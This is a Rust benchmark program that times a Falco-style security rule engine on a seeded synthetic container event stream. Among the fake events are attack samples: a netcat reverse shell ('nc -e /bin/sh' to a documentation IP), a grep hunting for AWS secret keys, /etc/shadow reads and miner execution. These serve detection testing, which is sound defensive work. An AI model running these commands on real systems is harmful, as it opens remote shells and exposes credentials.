//! Rule-evaluation benchmark: an event stream through the full upstream stable rule set, on one
//! core, three ways in the same run, plus a baseline (the same loop with an empty rule set):
//!
//! * `compiled+dispatch` — the engine as the node agent uses it (event-type index),
//! * `compiled, no dispatch` — the same compiled conditions, every rule tried on every event,
//! * `naive AST` — the uncompiled-tree interpreter in `brainbox_rules::naive`.
//!
//! All three must report the same matches (checked) before timing counts.
//!
//! ```text
//! cargo run --release -p brainbox-rules --example rules_bench -- \
//!     --rules ../shared/falco/falco_rules.yaml [--events recorded.jsonl] [--out bench/results/rules.json]
//! ```
//!
//! Without `--events`, a deterministic synthetic stream is generated (see `synth_stream`); with
//! it, a recorded stream of JSON lines in the `OwnedEvent` format is replayed (a node agent
//! recording converted by `brainbox-node-agent rules convert-events`; see bench/rules/run.sh).
//! `--replay N` evaluates exactly N events per variant, looping over the stream.

use brainbox_rules::naive::NaiveEngine;
use brainbox_rules::{Capabilities, OwnedEvent, RuleSet};
use serde_json::{json, Value as J};
use std::hint::black_box;
use std::path::PathBuf;
use std::time::{Duration, Instant};

struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        // xorshift64*: deterministic, no dependency.
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }
    fn pick<'a, T>(&mut self, v: &'a [T]) -> &'a T {
        &v[(self.next() % v.len() as u64) as usize]
    }
    fn chance(&mut self, per_mille: u64) -> bool {
        self.next() % 1000 < per_mille
    }
}

fn base(rng: &mut Rng, n: usize) -> J {
    let containers = [
        ("3f2a9c1b7d4e", "ghcr.io/acme/agent"),
        ("9b1c2d3e4f50", "ghcr.io/acme/agent"),
        ("a1b2c3d4e5f6", "ghcr.io/acme/orchestrator"),
        ("0c0ffee0babe", "docker.io/library/python"),
    ];
    let (cid, image) = *rng.pick(&containers);
    json!({
        "evt.num": n as i64 + 1,
        "container.id": cid,
        "container.image.repository": image,
        "container.privileged": false,
        "user.name": "agent", "user.uid": 1000, "user.loginuid": -1,
        "proc.pid": 1000 + (rng.next() % 5000) as i64, "proc.ppid": 900, "proc.tty": 0,
        "proc.duration": (rng.next() % 600_000_000_000) as i64,
        "proc.cwd": "/workspace/",
        "thread.cap_effective": "CAP_CHOWN CAP_DAC_OVERRIDE CAP_FOWNER CAP_SETUID CAP_SETGID",
        "proc.is_exe_upper_layer": false, "proc.is_exe_from_memfd": false,
    })
}

fn merge(mut a: J, b: J) -> J {
    for (k, v) in b.as_object().unwrap() {
        a[k] = v.clone();
    }
    a
}

/// A container workload: mostly file opens, some execs and connects, a few attacks (~1%).
fn synth_stream(n: usize, seed: u64) -> Vec<OwnedEvent> {
    let mut rng = Rng(seed | 1);
    let procs: &[(&str, &str, &str, &str)] = &[
        (
            "python3",
            "/usr/bin/python3",
            "agent.py --task 17",
            "python3",
        ),
        ("node", "/usr/local/bin/node", "server.js", "npm"),
        ("git", "/usr/bin/git", "status --porcelain", "python3"),
        ("sh", "/bin/sh", "-c ls -la /workspace", "python3"),
        ("bash", "/bin/bash", "-c pytest -q", "python3"),
        ("ls", "/bin/ls", "-la", "sh"),
        ("cat", "/bin/cat", "requirements.txt", "sh"),
        (
            "pip",
            "/usr/local/bin/pip",
            "install -r requirements.txt",
            "bash",
        ),
        (
            "curl",
            "/usr/bin/curl",
            "-s https://api.example.invalid/v1",
            "python3",
        ),
        ("grep", "/bin/grep", "-rn TODO src/", "bash"),
        ("find", "/usr/bin/find", ". -name *.py", "bash"),
    ];
    let reads = [
        ("/usr/lib/python3.11/os.py", "/usr/lib/python3.11", "os.py"),
        ("/etc/ld.so.cache", "/etc", "ld.so.cache"),
        ("/etc/resolv.conf", "/etc", "resolv.conf"),
        ("/etc/passwd", "/etc", "passwd"),
        ("/workspace/src/main.py", "/workspace/src", "main.py"),
        ("/proc/self/stat", "/proc/self", "stat"),
        (
            "/usr/lib/x86_64-linux-gnu/libc.so.6",
            "/usr/lib/x86_64-linux-gnu",
            "libc.so.6",
        ),
    ];
    let writes = [
        (
            "/workspace/out/result.json",
            "/workspace/out",
            "result.json",
            "O_WRONLY|O_CREAT|O_TRUNC",
        ),
        (
            "/tmp/tmpa8f3.txt",
            "/tmp",
            "tmpa8f3.txt",
            "O_RDWR|O_CREAT|O_EXCL",
        ),
        (
            "/var/log/app.log",
            "/var/log",
            "app.log",
            "O_WRONLY|O_APPEND|O_CREAT",
        ),
    ];
    let mut out = Vec::with_capacity(n);
    for i in 0..n {
        let b = base(&mut rng, i);
        let (pname, pexe, pargs, parent) = *rng.pick(procs);
        let proc = json!({
            "proc.name": pname, "proc.exe": pexe, "proc.exepath": pexe,
            "proc.cmdline": format!("{pname} {pargs}"), "proc.args": pargs,
            "proc.pname": parent, "proc.pexe": format!("/usr/bin/{parent}"),
            "proc.pcmdline": format!("{parent} main.py"),
            "proc.anames": [parent, "tini", "containerd-shim"],
        });
        let roll = rng.next() % 100;
        let attack = rng.chance(10);
        let ev = if roll < 62 {
            if roll < 48 {
                let (p, d, f) = *rng.pick(&reads);
                let (p, d, f) = if attack {
                    ("/etc/shadow", "/etc", "shadow")
                } else {
                    (p, d, f)
                };
                json!({"evt.type": "openat", "evt.rawres": 3, "evt.res": "SUCCESS", "evt.is_open_read": true,
                       "evt.is_open_write": false, "evt.arg.flags": "O_RDONLY|O_CLOEXEC", "fd.num": 3,
                       "fd.type": "file", "fd.typechar": "f", "fd.name": p, "fd.nameraw": p,
                       "fd.directory": d, "fd.filename": f})
            } else {
                let (p, d, f, flags) = *rng.pick(&writes);
                let (p, d, f, flags) = if attack {
                    (
                        "/var/log/auth.log",
                        "/var/log",
                        "auth.log",
                        "O_WRONLY|O_TRUNC",
                    )
                } else {
                    (p, d, f, flags)
                };
                json!({"evt.type": "openat", "evt.rawres": 4, "evt.res": "SUCCESS", "evt.is_open_read": false,
                       "evt.is_open_write": true, "evt.arg.flags": flags, "fd.num": 4, "fd.type": "file",
                       "fd.typechar": "f", "fd.name": p, "fd.nameraw": p, "fd.directory": d, "fd.filename": f})
            }
        } else if roll < 72 {
            let mut e = json!({"evt.type": "execve", "evt.rawres": 0, "evt.res": "SUCCESS", "evt.arg.flags": "0"});
            if attack {
                let a = rng.pick(&[
                    json!({"proc.name": "nc", "proc.cmdline": "nc -e /bin/sh 203.0.113.9 4444", "proc.args": "-e /bin/sh 203.0.113.9 4444"}),
                    json!({"proc.name": "grep", "proc.cmdline": "grep -ri aws_secret_access_key /", "proc.args": "-ri aws_secret_access_key /"}),
                    json!({"proc.name": "x", "proc.exe": "/dev/shm/x", "proc.cmdline": "x", "proc.args": ""}),
                    json!({"proc.name": "bash", "proc.tty": 34816, "proc.pname": "runc", "proc.anames": ["runc", "containerd-shim"]}),
                    json!({"proc.name": "miner", "proc.exe": "/tmp/miner", "proc.is_exe_upper_layer": true}),
                ])
                .clone();
                e = merge(e, a);
            }
            e
        } else if roll < 80 {
            let ext = rng.chance(300);
            let (ip, port) = if ext {
                ("203.0.113.20", 443)
            } else {
                ("10.0.3.7", 8080)
            };
            let (ip, port) = if attack {
                ("203.0.113.66", 4444)
            } else {
                (ip, port)
            };
            let e = json!({"evt.type": "connect", "evt.rawres": 0, "evt.res": "SUCCESS", "fd.num": 5, "fd.type": "ipv4",
                   "fd.typechar": "4", "fd.l4proto": "tcp", "fd.sip": ip, "fd.ip": ip, "fd.net": ip, "fd.snet": ip,
                   "fd.sport": port, "fd.name": format!("172.17.0.3:40211->{ip}:{port}")});
            if attack {
                merge(e, json!({"proc.name": "ssh", "proc.exe": "/usr/bin/ssh"}))
            } else {
                e
            }
        } else if roll < 86 {
            let dom = if attack {
                "AF_PACKET"
            } else {
                *rng.pick(&["AF_INET", "AF_UNIX", "AF_INET6"])
            };
            json!({"evt.type": "socket", "evt.rawres": 5, "evt.arg.domain": dom, "evt.arg.type": "SOCK_STREAM"})
        } else if roll < 90 {
            let (t, c) = if attack {
                ("ipv4", "4")
            } else {
                *rng.pick(&[("file", "f"), ("pipe", "p")])
            };
            json!({"evt.type": "dup2", "evt.rawres": 1, "fd.num": 3, "fd.type": t, "fd.typechar": c})
        } else if roll < 96 {
            json!({"evt.type": *rng.pick(&["clone", "procexit"]), "evt.rawres": 0})
        } else if roll < 98 {
            let target = if attack {
                "/etc/shadow"
            } else {
                "/workspace/data.json"
            };
            json!({"evt.type": "symlinkat", "evt.rawres": 0, "evt.arg.target": target, "evt.arg.linkpath": "/tmp/l"})
        } else {
            let req = if attack {
                "PTRACE_ATTACH"
            } else {
                "PTRACE_PEEKUSR"
            };
            json!({"evt.type": "ptrace", "evt.rawres": 0, "evt.arg.request": req})
        };
        let full = merge(merge(b, proc), ev);
        out.push(OwnedEvent::from_json_value(&full).expect("synthetic event is valid"));
    }
    out
}

/// CPU time this thread has run, in ns (`/proc/thread-self/schedstat`, first field). The
/// machine is shared, so events per CPU-second is the honest "one core" number; wall-clock
/// rates are reported too.
fn thread_cpu_ns() -> Option<u64> {
    std::fs::read_to_string("/proc/thread-self/schedstat")
        .ok()?
        .split_whitespace()
        .next()?
        .parse()
        .ok()
}

struct Rate {
    per_cpu_sec: f64,
    per_wall_sec: f64,
}

/// How long a variant runs: at least this wall time, or exactly this many events (the stream
/// replayed in a loop, the last pass cut short).
#[derive(Clone, Copy)]
enum Budget {
    Time(Duration),
    Events(usize),
}

/// Runs `f` over the stream repeatedly for the budget; returns rates and the matches of one
/// pass.
fn measure(
    events: &[OwnedEvent],
    budget: Budget,
    mut f: impl FnMut(&OwnedEvent) -> usize,
) -> (Rate, usize) {
    // Warm-up pass (also the match count).
    let matches: usize = events.iter().map(&mut f).sum();
    let cpu0 = thread_cpu_ns();
    let start = Instant::now();
    let mut n = 0usize;
    match budget {
        Budget::Time(min) => {
            while start.elapsed() < min {
                for e in events {
                    black_box(f(black_box(e)));
                }
                n += events.len();
            }
        }
        Budget::Events(total) => {
            while n < total {
                let take = (total - n).min(events.len());
                for e in &events[..take] {
                    black_box(f(black_box(e)));
                }
                n += take;
            }
        }
    }
    let wall = start.elapsed().as_secs_f64();
    let cpu = match (cpu0, thread_cpu_ns()) {
        (Some(a), Some(b)) if b > a => (b - a) as f64 / 1e9,
        _ => wall,
    };
    (
        Rate {
            per_cpu_sec: n as f64 / cpu,
            per_wall_sec: n as f64 / wall,
        },
        matches,
    )
}

fn main() {
    let mut rules = None;
    let mut extra = Vec::new();
    let mut events_file = None;
    let mut out = None;
    let mut secs = 3.0f64;
    let mut n_events = 4_096usize;
    let mut replay = 0usize;
    let mut label: Option<String> = None;
    let mut args = std::env::args().skip(1);
    while let Some(a) = args.next() {
        match a.as_str() {
            "--rules" => rules = args.next().map(PathBuf::from),
            "--also" => extra.extend(args.next().map(PathBuf::from)),
            "--events" => events_file = args.next().map(PathBuf::from),
            "--out" => out = args.next().map(PathBuf::from),
            "--seconds" => secs = args.next().and_then(|s| s.parse().ok()).unwrap_or(secs),
            "--count" => n_events = args.next().and_then(|s| s.parse().ok()).unwrap_or(n_events),
            "--label" => label = args.next(),
            "--replay" => replay = args.next().and_then(|s| s.parse().ok()).unwrap_or(replay),
            other => {
                eprintln!("unknown argument {other}");
                std::process::exit(2);
            }
        }
    }
    let Some(rules) = rules else {
        eprintln!("usage: rules_bench --rules falco_rules.yaml [--also override.yaml] [--events stream.jsonl] [--out result.json] [--seconds N] [--count N] [--replay EVENTS]");
        std::process::exit(2);
    };
    let mut files = vec![rules];
    files.extend(extra);

    let (events, stream) = match &events_file {
        Some(p) => {
            let text = std::fs::read_to_string(p).expect("read events");
            let ev: Vec<OwnedEvent> = text
                .lines()
                .filter(|l| !l.trim().is_empty())
                .map(|l| OwnedEvent::from_json(l).expect("event line"))
                .collect();
            let name = label
                .clone()
                .unwrap_or_else(|| format!("recorded: {}", p.display()));
            (ev, name)
        }
        None => (
            synth_stream(n_events, 0x0b5e_55ed),
            "synthetic container workload (seeded, ~1% attack events)".to_owned(),
        ),
    };
    let caps = Capabilities::default();
    let t0 = Instant::now();
    let rs = RuleSet::load_files(&files, &caps).expect("rules load");
    let compile_ms = t0.elapsed().as_secs_f64() * 1e3;
    let naive = NaiveEngine::load(&files).expect("naive load");

    // Same answers from all three, event by event, before anything is timed. The naive engine
    // also tries rules the sensor cannot evaluate; it can only fire them when an event carries
    // the missing field, which the stream never does.
    for e in &events {
        let a: Vec<String> = rs.matches(e).into_iter().map(|r| r.name.clone()).collect();
        let mut b = Vec::new();
        rs.for_each_match_undispatched(e, |r| b.push(r.name.clone()));
        let c = naive.matches(e);
        assert_eq!(a, b, "dispatch changed the result for {}", e.to_json());
        assert_eq!(a, c, "naive interpreter disagrees for {}", e.to_json());
    }

    // --replay N: N events per compiled variant (the stream looped), a tenth of that for the
    // naive interpreter, which is ten times slower; otherwise a fixed time per variant.
    let (budget, naive_budget) = if replay > 0 {
        (Budget::Events(replay), Budget::Events((replay / 10).max(1)))
    } else {
        let t = Budget::Time(Duration::from_secs_f64(secs));
        (t, t)
    };
    let loadavg = || {
        std::fs::read_to_string("/proc/loadavg")
            .map(|s| s.split_whitespace().take(3).collect::<Vec<_>>().join(" "))
            .unwrap_or_default()
    };
    let loadavg_start = loadavg();
    // Baseline: the same loop with an empty rule set (event-type dispatch finds no candidate),
    // i.e. the cost of iterating the replayed events and the harness itself.
    let empty = RuleSet::compile(&brainbox_rules::Definitions::new(), &caps).expect("empty set");
    let (base, m0) = measure(&events, budget, |e| {
        let mut n = 0;
        empty.for_each_match(e, |_| n += 1);
        n
    });
    assert_eq!(m0, 0);
    let (fast, m1) = measure(&events, budget, |e| {
        let mut n = 0;
        rs.for_each_match(e, |_| n += 1);
        n
    });
    let (nodisp, m2) = measure(&events, budget, |e| {
        let mut n = 0;
        rs.for_each_match_undispatched(e, |_| n += 1);
        n
    });
    let (slow, m3) = measure(&events, naive_budget, |e| naive.count_matches(e));
    assert_eq!((m1, m1), (m2, m3));

    let (fast_w, nodisp_w, slow_w) = (fast.per_wall_sec, nodisp.per_wall_sec, slow.per_wall_sec);
    let (fast, nodisp, slow) = (fast.per_cpu_sec, nodisp.per_cpu_sec, slow.per_cpu_sec);
    let (base_w, base) = (base.per_wall_sec, base.per_cpu_sec);
    // What the stream is made of, by event type.
    let mut mix: std::collections::BTreeMap<&str, usize> = Default::default();
    for e in &events {
        *mix.entry(brainbox_rules::Event::event_type(e).name())
            .or_default() += 1;
    }
    let budget_json = match budget {
        Budget::Time(_) => json!({"seconds_per_variant": secs}),
        Budget::Events(n) => json!({"events_per_variant": n, "events_naive_ast": (n / 10).max(1)}),
    };
    // Rule evaluation alone: the engine's time per event minus the empty-set loop's.
    let rules_only_ns = (1e9 / fast - 1e9 / base).max(0.0);
    let cpu = std::fs::read_to_string("/proc/cpuinfo")
        .ok()
        .and_then(|s| {
            s.lines()
                .find(|l| l.starts_with("model name"))
                .map(|l| l.split(':').nth(1).unwrap_or("").trim().to_owned())
        })
        .unwrap_or_default();
    let result = json!({
        "benchmark": "rules",
        "rules_files": files.iter().map(|p| p.display().to_string()).collect::<Vec<_>>(),
        "rules": rs.rules.len(),
        "rules_evaluable": rs.evaluable(),
        "compile_ms": (compile_ms * 100.0).round() / 100.0,
        "stream": stream,
        "events": events.len(),
        "matches_per_pass": m1,
        "event_types": mix,
        "budget": budget_json,
        "threads": 1,
        "cpu": cpu,
        // Other builds share this machine; the ratios are measured in the same run.
        "loadavg_at_start": loadavg_start,
        "loadavg_at_end": loadavg(),
        "rules_only_ns_per_event": (rules_only_ns * 10.0).round() / 10.0,
        "results": {
            "baseline_empty_rule_set": {"events_per_cpu_sec": base.round(), "ns_per_event": (1e9 / base * 10.0).round() / 10.0, "events_per_wall_sec": base_w.round()},
            "compiled_dispatch": {"events_per_cpu_sec": fast.round(), "ns_per_event": (1e9 / fast * 10.0).round() / 10.0, "events_per_wall_sec": fast_w.round()},
            "compiled_no_dispatch": {"events_per_cpu_sec": nodisp.round(), "ns_per_event": (1e9 / nodisp * 10.0).round() / 10.0, "events_per_wall_sec": nodisp_w.round()},
            "naive_ast": {"events_per_cpu_sec": slow.round(), "ns_per_event": (1e9 / slow * 10.0).round() / 10.0, "events_per_wall_sec": slow_w.round()},
        },
        "speedup_vs_naive_ast": ((fast / slow) * 10.0).round() / 10.0,
        "speedup_vs_no_dispatch": ((fast / nodisp) * 10.0).round() / 10.0,
        "goal_events_per_sec": 1_000_000,
        "goal_met": fast >= 1_000_000.0,
    });
    let text = serde_json::to_string_pretty(&result).unwrap_or_default();
    println!("{text}");
    println!();
    println!("| variant | events per CPU-second (1 core) | ns/event | vs naive | events per wall-second |");
    println!("|---|---:|---:|---:|---:|");
    for (name, v, w) in [
        (
            "baseline: empty rule set (iterate + dispatch)",
            base,
            base_w,
        ),
        ("compiled + evt.type dispatch", fast, fast_w),
        ("compiled, no dispatch", nodisp, nodisp_w),
        ("naive AST interpreter", slow, slow_w),
    ] {
        println!(
            "| {name} | {:.0} | {:.1} | {:.1}x | {:.0} |",
            v,
            1e9 / v,
            v / slow,
            w
        );
    }
    if let Some(p) = out {
        if let Some(dir) = p.parent() {
            let _ = std::fs::create_dir_all(dir);
        }
        std::fs::write(&p, text + "\n").expect("write result");
        eprintln!("wrote {}", p.display());
    }
}
